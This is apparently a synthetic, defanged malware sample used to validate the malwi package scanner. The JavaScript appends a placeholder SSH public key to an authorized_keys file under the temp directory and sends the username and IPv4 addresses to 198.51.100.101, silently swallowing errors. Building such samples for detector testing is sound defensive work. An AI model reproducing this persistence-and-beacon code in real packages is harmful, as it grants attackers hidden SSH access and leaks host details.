// SYNTHETIC, DEFANGED malwi validation sample - modelled on packages that plant an SSH key in authorized_keys (2022-2025); never run.
// Persistence: append the attacker's public key to authorized_keys and report user + address.
// Defanged: the key is a placeholder and the .ssh folder is a placeholder under the temp dir.
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');

const KEY = 'ssh-ed25519 PLACEHOLDER_PUBLIC_KEY malwi-defanged';
const sshDir = path.join(os.tmpdir(), 'malwi-defanged-placeholder', '.ssh');
const auth = path.join(sshDir, 'authorized_keys');

try {
  fs.mkdirSync(sshDir, { recursive: true, mode: 0o700 });
  const existing = fs.existsSync(auth) ? fs.readFileSync(auth, 'utf8') : '';
  if (!existing.includes(KEY)) fs.appendFileSync(auth, '\n' + KEY + '\n', { mode: 0o600 });
} catch (e) {}

const addrs = Object.values(os.networkInterfaces())
  .flat()
  .filter((i) => i && i.family === 'IPv4' && !i.internal)
  .map((i) => i.address);
http.get('http://198.51.100.101/k?u=' + encodeURIComponent(os.userInfo().username) + '&a=' + encodeURIComponent(addrs.join(',')), () => {}).on('error', () => {});
